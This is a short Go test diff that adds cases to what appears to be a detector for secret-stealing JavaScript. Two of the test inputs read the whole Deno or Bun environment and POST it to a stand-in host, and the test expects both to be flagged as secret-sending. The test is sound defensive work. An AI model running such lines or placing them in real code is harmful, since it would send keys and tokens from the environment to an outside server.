@@ -613,3 +613,13 @@ func TestCleanKeys(t *testing.T) {
 		}
 	}
 }
+
+// Deno's and Bun's environment objects are the whole environment, as
+// process.env is.
+func TestDenoBunEnv(t *testing.T) {
+	checkKinds(t, []kindCase{
+		{"const env = Deno.env.toObject();\nawait fetch('https://x.example/p', { method: 'POST', body: JSON.stringify({ vars: env }) });\n", JS, "secret-send"},
+		{"await fetch('https://x.example/p', { method: 'POST', body: JSON.stringify(Bun.env) });\n", JS, "env-dump,secret-send"},
+		{"const env = Deno.env.toObject();\nconsole.log(Object.keys(env).length);\nawait fetch('https://x.example/p', { method: 'POST', body: 'ping' });\n", JS, ""},
+	})
+}
